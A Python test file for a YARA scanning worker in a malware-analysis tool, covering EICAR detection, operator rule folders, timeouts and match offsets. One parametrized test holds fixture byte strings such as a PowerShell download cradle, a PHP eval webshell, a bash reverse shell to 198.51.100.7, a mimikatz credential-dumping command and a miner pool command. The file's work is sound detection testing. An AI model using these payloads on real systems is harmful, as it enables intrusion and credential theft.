import re
from pathlib import Path

import pytest
import yara_x

from orchestrator.worker import Detection, Tag
from workers.yara import yara

RULES = Path(__file__).parents[3] / "workers" / "rules"


def names(findings):
    return {match.rule for match in findings.result.matches}


def test_eicar_is_malicious(analyse, eicar):
    """The test file has the full score, a malicious detection, and tags for rule and family."""
    findings = analyse(yara, eicar)
    assert findings.score == 100
    assert Detection("EICAR_Test_File", "malicious") in findings.detections
    assert {Tag("yara", "EICAR_Test_File"), Tag("family", "EICAR")} <= set(findings.tags)


def test_eicar_inside_something_else_is_not_the_test_file(analyse, eicar):
    """Quoted in a longer text, the string is reported, with less certainty."""
    findings = analyse(yara, b"a text about " + eicar * 3)
    assert names(findings) == {"EICAR_String_Inside"}
    assert 0 < findings.score < 100


def test_the_rules_themselves_do_not_hold_the_test_string(eicar):
    """A scanner on a developer's machine must not remove our rule file."""
    for path in RULES.glob("*.yar"):
        assert eicar not in path.read_bytes()


def test_no_match_is_no_score(analyse, python, launchers, wheel):
    """Files of Python itself match nothing, and that does not make them benign."""
    for content in (python, wheel, *launchers.values(), b"", b"x"):
        findings = analyse(yara, content)
        assert names(findings) == set()
        assert findings.score == -1
        assert findings.possible_detections > 20


CRADLE = b"IEX (New-Object Net.WebClient).DownloadString('http://x/y')"
SMUGGLER = b"<html><script>x=new Uint8Array(9);a.href=URL.createObjectURL(b);a.download='a'</script>"
TEMPLATE = b'relationships/attachedTemplate" Target="http://x.example/t.dotm" TargetMode="External"'
EQUATION = b"{\\rtf1{\\object\\objdata 0105000002000000" + b"4571756174696f6e2e33" + b"00}}"


@pytest.mark.parametrize(
    ("rule", "content"),
    [
        ("PowerShell_Download_Cradle", CRADLE),
        ("PowerShell_Hidden_Command", b"powershell.exe -w hidden -enc " + b"QQBBAEEAQQBB" * 5),
        ("Script_Runs_Shell", b"CreateObject('WScript.Shell'): CreateObject('MSXML2.XMLHTTP')"),
        ("Webshell_PHP", b"<?php @eval(base64_decode($_POST['c'])); ?>"),
        ("Reverse_Shell", b"bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"),
        ("Crypto_Miner_Pool", b"xmr --donate-level 1 -o stratum+tcp://pool.example.com:3333"),
        ("HTML_Smuggling", SMUGGLER),
        ("Credential_Dumping", b"privilege::debug sekurlsa::logonpasswords"),
        ("PDF_Starts_Program", b"%PDF-1.4 /OpenAction << /S /Launch /F (cmd.exe) >>"),
        ("PDF_Opens_With_JavaScript", b"%PDF-1.4 /OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
        ("RTF_Equation_Object", EQUATION),
        ("Shortcut_Runs_Interpreter", bytes.fromhex("4c0000000114020000000000") + b"powershell"),
        ("Office_Remote_Template", TEMPLATE),
    ],
)
def test_own_rules_find_what_they_are_for(analyse, rule, content):
    """Each of these files is made to show one rule's subject, and that rule matches."""
    findings = analyse(yara, content)
    assert rule in names(findings)
    assert findings.score > 0


def test_every_own_rule_explains_itself():
    """Each rule that can match has a description and a score, and compiles without a warning."""
    for path in RULES.glob("*.yar"):
        compiler = yara_x.Compiler()
        compiler.add_source(path.read_text())
        assert {warning["code"] for warning in compiler.warnings()} <= {"text_as_hex"}, path.name
        for rule in compiler.build():
            meta = dict(rule.metadata)
            private = re.search(rf"private rule {rule.identifier}\b", path.read_text())
            assert private or (meta["description"] and 0 <= meta["score"] <= 100)


def rules_folder(tmp_path: Path, **sources: str) -> dict[str, str]:
    folder = tmp_path / "rules"
    folder.mkdir(exist_ok=True)
    for name, source in sources.items():
        (folder / f"{name}.yar").write_text(source)
    return {"yara.rules_dir": str(folder)}


def rule(name: str, text: str, meta: str = "") -> str:
    meta = f"meta: {meta}" if meta else ""
    return f'rule {name} {{ {meta} strings: $a = "{text}" condition: $a }}'


def test_the_operators_rules_are_used(analyse, tmp_path):
    """Rules of the folder match beside our own; without a score they count 50."""
    options = rules_folder(tmp_path, mine=rule("Mine", "needle"), scored=rule("Scored", "nee", "score = 10"))
    findings = analyse(yara, b"hay needle hay", options=options)
    assert {match.rule: match.score for match in findings.result.matches} == {"Mine": 50, "Scored": 10}
    assert findings.score == 50
    assert Detection("Scored", "informational") in findings.detections


def test_a_changed_folder_is_read_again(analyse, tmp_path):
    """A rule that is changed, added or removed counts from the next sample on."""
    options = rules_folder(tmp_path, mine=rule("First", "needle"))
    assert names(analyse(yara, b"needle", options=options)) == {"First"}
    rules_folder(tmp_path, mine=rule("Changed", "needle"), more=rule("Added", "needle"))
    assert names(analyse(yara, b"needle", options=options)) == {"Changed", "Added"}
    (tmp_path / "rules" / "more.yar").unlink()
    assert names(analyse(yara, b"needle", options=options)) == {"Changed"}


def test_the_setting_may_come_from_the_environment(analyse, tmp_path, monkeypatch):
    """The environment names the folder where the options do not."""
    options = rules_folder(tmp_path, mine=rule("Mine", "needle"))
    monkeypatch.setenv("ASSAY_YARA_RULES_DIR", options["yara.rules_dir"])
    assert names(analyse(yara, b"needle")) == {"Mine"}


def test_a_broken_rule_is_named_and_the_others_work(analyse, tmp_path):
    """A syntax error in one file is a problem in the result, not the end of the scan."""
    options = rules_folder(tmp_path, bad="rule Bad { condition: nonsense }", good=rule("Good", "needle"))
    findings = analyse(yara, b"needle", options=options)
    assert names(findings) == {"Good"}
    assert any(problem.startswith("bad.yar:1:") for problem in findings.result.problems)


def test_rules_written_for_other_scanners(analyse, tmp_path):
    """External variables that public rule sets use are defined."""
    source = (
        'rule Uses_Globals { strings: $a = "needle" condition: $a and filename == "" and extension == "" }'
    )
    assert names(analyse(yara, b"needle", options=rules_folder(tmp_path, x=source))) == {"Uses_Globals"}


def test_compiled_rules(analyse, tmp_path):
    """A .yarc file in the folder holds rules in compiled form."""
    options = rules_folder(tmp_path)
    compiler = yara_x.Compiler()
    compiler.add_source(rule("Compiled", "needle"))
    with (tmp_path / "rules" / "set.yarc").open("wb") as file:
        compiler.build().serialize_into(file)
    assert names(analyse(yara, b"needle", options=options)) == {"Compiled"}


def test_a_folder_that_is_not_there_fails(analyse, tmp_path):
    """A wrong setting is no silent success."""
    with pytest.raises(NotADirectoryError, match="rules_dir"):
        analyse(yara, b"x", options={"yara.rules_dir": str(tmp_path / "nowhere")})


def test_a_rule_that_takes_for_ever_is_stopped(analyse, tmp_path, monkeypatch):
    """At the time limit the scan ends; what our own rules found is kept and the result says so."""
    monkeypatch.setattr("workers.yara._SECONDS", 1)
    loop = "for any i in (0..1000000000): (for any j in (0..1000000000): (uint8(i) == 1 and uint8(j) == 2))"
    options = rules_folder(tmp_path, slow=f"rule Slow {{ condition: {loop} }}")
    findings = analyse(yara, CRADLE, options=options)
    assert findings.result.timed_out
    assert names(findings) == {"PowerShell_Download_Cradle"}


def test_matches_say_where(analyse, eicar):
    """A match gives the offset and the length of what it saw."""
    match = analyse(yara, b"1234" + eicar).result.matches[0]
    assert (match.strings[0].offset, match.strings[0].length) == (4, 68)
